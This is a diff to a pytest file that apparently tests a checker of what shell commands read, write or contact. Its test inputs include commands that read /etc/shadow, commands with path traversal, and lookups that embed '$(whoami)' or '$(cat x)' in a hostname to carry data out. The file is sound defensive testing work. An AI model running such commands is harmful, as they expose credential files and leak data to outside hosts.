@@ -231,6 +231,11 @@ def test_a_pattern_in_a_flag_whose_text_counts_is_not_known() -> None:
         "mtr -F hosts",
         "shellcheck -x x.sh",
         "zdiff a.gz",
+        "jar tf a.jar @list",
+        "7z h '../*'",
+        "unrar p '../*.rar'",
+        "cloc --vcs=git",
+        "openssl pkcs12 -in a -noout -passin file:/etc/shadow",
         "diff -l a b",
     ],
 )
@@ -262,6 +267,10 @@ def test_a_tree_that_may_be_read_is_read_as_one(command: str, effect: str) -> No
         ("pgrep -F x.pid", "read:/project/x.pid"),
         ("ss --filter=x", "read:/project/x"),
         ("modinfo ./x.ko", "read:/project/x.ko"),
+        ("lspci -i ids", "read:/project/ids"),
+        ("7z h src", "read:/project/src"),
+        ("mktemp -p src", "write:/project/src"),
+        ("whois example.com", "net:whois"),
         ("getent hosts example.com", "net:example.com"),
         ("getent ahosts example.com", "net:example.com"),
         ("resolvectl query example.com", "net:example.com"),
@@ -274,6 +283,11 @@ def test_a_value_is_read_written_or_contacted_as_it_is(command: str, effect: str
 @pytest.mark.parametrize("command", ["getent ahosts x$(whoami).example.com", "resolvectl query $(cat x).example.com"])
 def test_a_name_that_is_looked_up_cannot_carry_what_was_read(command: str) -> None:
     assert not judged(command).known
+
+
+@pytest.mark.parametrize("command", ["info ./x", "info /etc/shadow", "lspci -q", "lastlog -C -u x"])
+def test_programs_that_seem_to_tell_do_not_show_clear_or_ask_elsewhere_unasked(command: str) -> None:
+    assert not runs_unasked(command)
 
 
 @pytest.mark.parametrize("command", ["sdiff a b", "diff3 a b c", "colordiff a b"])
